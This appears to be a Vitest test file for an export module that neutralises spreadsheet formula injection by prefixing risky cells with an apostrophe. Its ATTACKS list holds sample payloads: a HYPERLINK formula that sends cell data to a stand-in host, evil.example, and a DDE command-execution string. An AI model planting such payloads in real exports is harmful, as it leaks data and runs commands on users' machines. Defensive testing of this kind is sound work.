// Exports never hand a spreadsheet a formula: cells starting = + - @ (or tab, CR, LF) are neutralised.
import { describe, expect, it } from 'vitest';
import {
  csvDocument,
  csvLine,
  neutraliseCell,
  safeCellValue,
} from '../../../api/exports/spreadsheet-cells.js';
import { readCsv } from '../../../api/registry/csv/csv-reader.js';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
];

describe('neutraliseCell', () => {
  it.each(ATTACKS)('prefixes %j with an apostrophe', (text) => {
    expect(neutraliseCell(text)).toBe(`'${text}`);
  });

  it.each(['张三', 'GL-2026-000123', '139****5678', 'a=b', ' 中间有=号', ''])('leaves %j alone', (text) => {
    expect(neutraliseCell(text)).toBe(text);
  });

  it('writes numbers and booleans as values', () => {
    expect(safeCellValue(-5)).toBe(-5);
    expect(safeCellValue(true)).toBe(true);
    expect(safeCellValue(null)).toBeNull();
  });
});

describe('CSV export', () => {
  it('neutralises and quotes every cell, and reads back to the neutralised text', () => {
    const doc = csvDocument(
      ['name', 'note'],
      [
        ['=1+1', 'say "hi", then\nleave'],
        [-3, null],
      ],
    );
    expect(doc.startsWith('\uFEFF')).toBe(true);
    const read = readCsv(doc.slice(1));
    expect(read.ok && read.records.map((r) => r.fields)).toEqual([
      ['name', 'note'],
      ["'=1+1", 'say "hi", then\nleave'],
      ['-3', ''],
    ]);
  });

  it('never lets a cell start a formula, whatever it holds', () => {
    for (const text of ATTACKS) {
      const line = csvLine([text]);
      const cell = line.startsWith('"') ? line.slice(1) : line;
      expect(cell[0]).toBe("'");
    }
  });
});
